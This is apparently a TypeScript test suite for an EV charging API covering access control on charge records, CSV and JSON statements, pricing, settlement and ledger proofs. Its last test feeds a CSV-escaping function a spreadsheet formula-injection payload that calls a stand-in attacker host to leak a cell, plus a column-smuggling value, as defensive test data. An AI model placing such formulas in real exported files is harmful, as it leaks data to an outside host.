import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { chargingCommunity, ok, simpleCdr, TARIFF, token } from '../../test/support/charging.ts';
import { seededKey } from '../../test/support/community.ts';
import { Signer } from '../client.ts';
import { priceCdr } from '../charging/roaming.ts';
import { checkEntryProof } from '../audit/entry-proof.ts';
import { sign, toBase64Url, utf8 } from '../ledger/index.ts';
import { buildApp } from './app.ts';
import { csvCell } from './charging-routes.ts';
import { PersonalVault } from './vault.ts';

/**
 * The EV charging routes through app.inject(), over Charge Lane (test/support/charging.ts)
 * with three March CDRs: A1 (card A of NL*TST, linked to alice), B1 (card B of DE*EMS,
 * linked to bob) and C1 (card C of NL*TST, no member).
 */
describe('charging routes', () => {
  let app: FastifyInstance;
  let c: Awaited<ReturnType<typeof chargingCommunity>>;
  let bob: Signer;
  let vault: PersonalVault;
  const cdrs = {
    A1: simpleCdr('A1', '2025-03-20T07:00:00Z', 60, 11, 0, 'CARD-A', 'NL*TST'),
    B1: simpleCdr('B1', '2025-03-20T20:30:00Z', 90, 20, 150, 'CARD-B', 'DE*EMS', 'LANE-1-2'),
    C1: simpleCdr('C1', '2025-03-21T08:00:00Z', 45, 7.5, 0, 'CARD-C', 'NL*TST'),
  };
  const tokens: Record<string, string> = {};
  const call = async (method: 'GET' | 'POST', url: string, who?: string, payload?: unknown) => {
    const res = await app.inject({ method, url, payload: payload as never, headers: who ? { authorization: `Bearer ${tokens[who]}` } : {} });
    return { status: res.statusCode, headers: res.headers, body: res.body, json: res.headers['content-type']?.toString().startsWith('application/json') ? res.json() : null };
  };
  const get = (url: string, who?: string) => call('GET', url, who);
  const login = async (label: string) => {
    const ch = (await app.inject({ method: 'POST', url: '/v1/auth/challenge' })).json() as { challenge: string; message: string };
    const key = seededKey(label);
    const signature = toBase64Url(sign(key.secretKey, utf8(ch.message)));
    const r = await app.inject({ method: 'POST', url: '/v1/auth/token', payload: { key: new Signer(key, '').actor, challenge: ch.challenge, signature } });
    assert.equal(r.statusCode, 200, r.body);
    tokens[label] = (r.json() as { token: string }).token;
  };
  const LABELS = ['operator', 'dso', 'cpo', 'emsp', 'alice', 'bob'];
  const ids = (rows: { id: string }[]) => rows.map((r) => r.id);

  before(async () => {
    c = await chargingCommunity();
    bob = new Signer(seededKey('bob'), c.operator.community, 0, () => new Date(c.clock.ms).toISOString());
    c.at('2025-03-22T12:00:00Z');
    await ok(c.ledger, c.operator.sign('participant.register', { key: bob.actor, roles: ['member'] }));
    for (const x of Object.values(cdrs)) await ok(c.ledger, c.cpo.sign('charging.cdr', { cdr: x.cdr }));
    await ok(c.ledger, c.cpo.sign('charging.driver', { token: token('CARD-A').uid, member: c.alice.actor }));
    await ok(c.ledger, c.cpo.sign('charging.driver', { token: token('CARD-B', 'DE*EMS').uid, member: bob.actor }));
    c.ledger.checkpoint(seededKey('operator'));
    vault = PersonalVault.open(join(c.path, '..', 'personal.db'), randomBytes(32));
    ({ app } = await buildApp({ ledger: c.ledger, vault, tokenSecret: randomBytes(32), txClock: () => c.clock.ms, now: () => c.clock.ms }));
    for (const label of LABELS) await login(label);
  });
  after(async () => {
    await app.close();
    vault.close();
    await c.ledger.close();
  });

  test('parties, locations and current tariffs are public; CDRs need a token', async () => {
    const parties = await get('/v1/charging/parties');
    assert.deepEqual(parties.json.map((p: { party: string; role: string }) => `${p.party}/${p.role}`), ['DE*EMS/EMSP', 'FR*OLC/CPO', 'NL*TST/EMSP']);
    const locations = await get('/v1/charging/locations');
    assert.deepEqual(locations.json.map((l: { id: string; timeZone: string }) => [l.id, l.timeZone]), [['LANE-1', 'Europe/Paris']]);
    const tariffs = await get('/v1/charging/tariffs');
    assert.deepEqual(tariffs.json.map((t: { cpo: string; id: string; version: string }) => [t.cpo, t.id, t.version]), [['FR*OLC', 'LANE', '2025-01-01T00:00:00Z']]);
    assert.equal((await get('/v1/charging/cdrs')).status, 401);
    assert.equal((await get('/v1/charging/mine')).status, 401);
  });

  test('a member sees only their own CDRs, an eMSP its own, the CPO and staff all', async () => {
    assert.deepEqual(ids((await get('/v1/charging/cdrs?month=2025-03', 'alice')).json), ['A1']);
    assert.deepEqual(ids((await get('/v1/charging/cdrs', 'bob')).json), ['B1']);
    assert.deepEqual(ids((await get('/v1/charging/cdrs?month=2025-03', 'emsp')).json), ['B1']);
    assert.deepEqual(ids((await get('/v1/charging/cdrs?month=2025-03', 'cpo')).json), ['A1', 'B1', 'C1']);
    assert.deepEqual(ids((await get('/v1/charging/cdrs?month=2025-03', 'operator')).json), ['A1', 'B1', 'C1']);
    assert.deepEqual(ids((await get('/v1/charging/cdrs?month=2025-03', 'dso')).json), ['A1', 'B1', 'C1']);
    assert.deepEqual((await get('/v1/charging/cdrs?month=2025-04', 'cpo')).json, []);
    const list = (await get('/v1/charging/cdrs', 'alice')).json[0];
    assert.equal(list.cdr, undefined, 'the list leaves out the OCPI document');
    assert.equal(list.localWh, null);
    // One CDR: the driver, the eMSP and the CPO; not another member nor another eMSP.
    const one = await get('/v1/charging/cdrs/FR*OLC/a1', 'alice');
    assert.equal(one.status, 200);
    assert.equal(one.json.cdr.id, 'A1');
    assert.equal(one.json.exclMicro, cdrs.A1.priced.total.excl);
    assert.equal((await get('/v1/charging/cdrs/FR*OLC/B1', 'alice')).status, 403);
    assert.equal((await get('/v1/charging/cdrs/FR*OLC/A1', 'bob')).status, 403);
    assert.equal((await get('/v1/charging/cdrs/FR*OLC/A1', 'emsp')).status, 403);
    assert.equal((await get('/v1/charging/cdrs/FR*OLC/B1', 'emsp')).status, 200);
    assert.equal((await get('/v1/charging/cdrs/FR*OLC/ZZ', 'cpo')).status, 404);
    assert.equal((await get('/v1/charging/cdrs/FROLC/A1', 'cpo')).json.field, 'params.cpo');
    // The driver's own view: energy, cost, totals.
    const mine = await get('/v1/charging/mine', 'alice');
    assert.equal(mine.status, 200);
    assert.deepEqual(mine.json.sessions.map((s: { id: string; energyWh: number; exclMicro: number; localWh: number | null }) => [s.id, s.energyWh, s.exclMicro, s.localWh]), [['A1', 11_000, cdrs.A1.priced.total.excl, null]]);
    assert.deepEqual(mine.json.totals, [{ currency: 'EUR', sessions: 1, energyWh: 11_000, exclMicro: cdrs.A1.priced.total.excl, inclMicro: cdrs.A1.priced.total.incl, localWh: null }]);
    assert.deepEqual((await get('/v1/charging/mine', 'dso')).json.sessions, []);
    // Once charging.origin covered the session, its local Wh shows (a row put in memory here: the read path only).
    const key = 'FR*OLC\u001fA1';
    c.ledger.state.put('charging_origin', { cpo: 'FR*OLC', id: 'A1', token: token('CARD-A').uid, emsp: 'NL*TST', importWh: 11_000, localWh: 4_400, sources: { SOLAR: 4_400 }, intervals: [], entry: 0 });
    const local = await get('/v1/charging/mine', 'alice');
    c.ledger.state.delete('charging_origin', key);
    assert.deepEqual([local.json.sessions[0].localWh, local.json.totals[0].localWh], [4_400, 4_400]);
    // Settlement lines as they stand: an eMSP sees its line, staff all, a member none.
    const emspLines = await get('/v1/charging/settlements/2025-03', 'emsp');
    assert.equal(emspLines.json.settled, false);
    assert.deepEqual(emspLines.json.lines.map((l: { emsp: string }) => l.emsp), ['DE*EMS']);
    assert.deepEqual((await get('/v1/charging/settlements/2025-03', 'operator')).json.lines.map((l: { emsp: string }) => l.emsp), ['DE*EMS', 'NL*TST']);
    assert.equal((await get('/v1/charging/settlements/2025-03', 'alice')).status, 403);
  });

  test('a party\'s statement as CSV (header row, its lines and CDRs) and JSON: its own key or staff', async () => {
    const csv = await get('/v1/charging/statement?party=DE*EMS&month=2025-03&format=csv', 'emsp');
    assert.equal(csv.status, 200, csv.body);
    assert.match(String(csv.headers['content-type']), /^text\/csv/);
    const rows = csv.body.trimEnd().split('\n').map((l) => l.split(';'));
    assert.deepEqual(rows[0], ['kind', 'month', 'cpo', 'emsp', 'currency', 'cdr', 'credit_of', 'start', 'end', 'location', 'token', 'energy_wh', 'excl_vat', 'incl_vat', 'cdrs', 'credits']);
    assert.equal(rows.length, 3);
    const b = cdrs.B1.priced;
    const dec = (micro: number | null) => (micro! / 1e6).toFixed(6);
    assert.deepEqual(rows[1], ['line', '2025-03', 'FR*OLC', 'DE*EMS', 'EUR', '', '', '', '', '', '', '20000', dec(b.total.excl), dec(b.total.incl), '1', '0']);
    assert.deepEqual(rows[2], ['cdr', '2025-03', 'FR*OLC', 'DE*EMS', 'EUR', 'B1', '', '2025-03-20T20:30:00Z', '2025-03-21T00:30:00Z', 'LANE-1', token('CARD-B', 'DE*EMS').uid, '20000', dec(b.total.excl), dec(b.total.incl), '', '']);
    // The CPO's statement covers both eMSPs; NL*TST has no key: staff only.
    const cpo = await get('/v1/charging/statement?party=fr*olc&month=2025-03', 'cpo');
    assert.deepEqual(cpo.json.lines.map((l: { emsp: string }) => l.emsp), ['DE*EMS', 'NL*TST']);
    assert.deepEqual(ids(cpo.json.cdrs), ['A1', 'B1', 'C1']);
    assert.equal(cpo.json.lines.reduce((s: number, l: { netExclMicro: number }) => s + l.netExclMicro, 0), cdrs.A1.priced.total.excl + b.total.excl + cdrs.C1.priced.total.excl);
    assert.equal((await get('/v1/charging/statement?party=NL*TST&month=2025-03', 'emsp')).status, 403);
    assert.equal((await get('/v1/charging/statement?party=FR*OLC&month=2025-03', 'emsp')).status, 403);
    const nl = await get('/v1/charging/statement?party=NL*TST&month=2025-03', 'operator');
    assert.deepEqual(ids(nl.json.cdrs), ['A1', 'C1']);
    assert.equal((await get('/v1/charging/statement?party=BE*UNK&month=2025-03', 'operator')).status, 404);
    assert.equal((await get('/v1/charging/statement?party=DE*EMS&month=2025-03', 'alice')).status, 403);
  });

  test('POST /v1/charging/price prices a CDR or a session as priceCdr does, and names a wrong total', async () => {
    const { cdr } = cdrs.B1;
    const size = c.ledger.size;
    const want = priceCdr(cdr, TARIFF, 'Europe/Paris');
    const r = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF, cdr });
    assert.equal(r.status, 200, r.body);
    assert.equal(r.json.timeZoneFrom, 'location');
    assert.deepEqual(r.json.costs.total, want.total);
    assert.deepEqual([r.json.costs.energy, r.json.costs.parking, r.json.costs.fixed], [want.energy, want.parking, want.fixed]);
    assert.deepEqual(r.json.totals.total_cost, cdr.total_cost);
    assert.deepEqual(r.json.cdr, cdr);
    assert.equal(r.json.problem, null);
    const wrong = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF, cdr: { ...cdr, total_cost: { excl_vat: 1, incl_vat: 1.2 } } });
    assert.equal(wrong.json.problem.field, 'total_cost');
    assert.deepEqual(wrong.json.cdr.total_cost, cdr.total_cost);
    const session = { start_date_time: cdr.start_date_time, end_date_time: cdr.end_date_time, charging_periods: cdr.charging_periods };
    const s = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF, session, timeZone: 'Europe/Paris' });
    assert.equal(s.status, 200, s.body);
    assert.equal(s.json.timeZoneFrom, 'request');
    assert.deepEqual(s.json.costs.total, want.total);
    // Read in UTC the 20:30 start is day energy for longer: another price.
    const utc = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF, session, timeZone: 'UTC' });
    assert.notEqual(utc.json.costs.total.excl, want.total.excl);
    // The CDR's own tariff copy by default; an OCPI Session (unfinished: up to its last_updated) at its location's zone.
    assert.deepEqual((await call('POST', '/v1/charging/price', undefined, { cdr })).json.costs.total, want.total);
    const ocpiSession = {
      country_code: 'FR', party_id: 'OLC', id: 'S-B1', start_date_time: cdr.start_date_time, kwh: 20, cdr_token: cdr.cdr_token, auth_method: 'WHITELIST', location_id: 'LANE-1',
      evse_uid: 'LANE-1-2', connector_id: '1', currency: 'EUR', charging_periods: cdr.charging_periods, status: 'ACTIVE', last_updated: cdr.end_date_time,
    };
    const live = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF, session: ocpiSession });
    assert.equal(live.status, 200, live.body);
    assert.deepEqual([live.json.timeZoneFrom, live.json.costs.total], ['location', want.total]);
    assert.equal((await call('POST', '/v1/charging/price', undefined, { tariff: { ...TARIFF, currency: 'CHF' }, session: ocpiSession })).json.code, 'E_CDR_CURRENCY');
    const neither = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF });
    assert.equal(neither.status, 400);
    const bad = await call('POST', '/v1/charging/price', undefined, { tariff: TARIFF, session: { ...session, end_date_time: '2025-03-20T20:00:00Z' } });
    assert.equal(bad.json.code, 'E_CHARGING_PERIODS');
    assert.match(bad.json.field, /^body\.session\./);
    assert.equal(c.ledger.size, size, 'nothing written');
  });

  test('the operator signs the planned charging.settle and appends it; the month is then settled', async () => {
    assert.equal((await get('/v1/charging/plan/settle?month=2025-03', 'cpo')).status, 403);
    const size = c.ledger.size;
    c.at('2025-04-01T08:00:00Z');
    for (const label of LABELS) await login(label);
    const plan = await get('/v1/charging/plan/settle?month=2025-03', 'operator');
    assert.equal(plan.status, 200, plan.body);
    assert.equal(plan.json.opensAt, '2025-03-31T22:00:00Z');
    assert.equal(plan.json.body.lines.length, 2);
    const posted = await call('POST', '/v1/transactions', undefined, c.operator.sign('charging.settle', plan.json.body));
    assert.equal(posted.status, 201, posted.body);
    assert.equal(c.ledger.size, size + 1);
    const s = await get('/v1/charging/settlements/2025-03', 'emsp');
    assert.equal(s.json.settled, true);
    assert.equal(s.json.entry, size);
    assert.deepEqual(s.json.lines, plan.json.body.lines.filter((l: { emsp: string }) => l.emsp === 'DE*EMS'));
    assert.equal((await get('/v1/charging/plan/settle?month=2025-03', 'operator')).json.code, 'E_CHARGING_SETTLED');
    const st = await get('/v1/charging/statement?party=DE*EMS&month=2025-03', 'emsp');
    assert.deepEqual([st.json.settled, st.json.entry], [true, size]);
  });
  test('a CDR is proven to its CPO, its eMSP and its linked driver, and to nobody else', async () => {
    const entryOf = (id: string) => (c.ledger.state.get('charging_cdrs', `FR*OLC\u001f${id}`) as unknown as { entry: number }).entry;
    const proof = async (id: string, who: string) => (await get(`/v1/proofs/${entryOf(id)}`, who)).status;
    assert.equal(await proof('B1', 'cpo'), 200);
    assert.equal(await proof('B1', 'emsp'), 200, 'DE*EMS is the eMSP of card B');
    assert.equal(await proof('B1', 'bob'), 200, 'card B is linked to bob');
    const p = await get(`/v1/proofs/${entryOf('B1')}`, 'bob');
    assert.equal((await checkEntryProof(p.json, c.ledger.operatorVerifierKey())).transaction.type, 'charging.cdr');
    assert.equal(await proof('B1', 'alice'), 403);
    assert.equal(await proof('A1', 'emsp'), 403, 'A1 is NL*TST\'s');
    assert.equal(await proof('C1', 'alice'), 403, 'card C is nobody\'s in the log');
  });
  test('statement cells cannot inject formulas or columns', () => {
    assert.equal(csvCell('=HYPERLINK("http://e.vil/?"&A1)'), '"\'=HYPERLINK(""http://e.vil/?""&A1)"');
    assert.equal(csvCell('@SUM(1+1)'), "'@SUM(1+1)");
    assert.equal(csvCell('X;;;999999'), '"X;;;999999"');
    assert.equal(csvCell('-5.250000'), '-5.250000');
    assert.equal(csvCell('FR*OLC'), 'FR*OLC');
  });
});
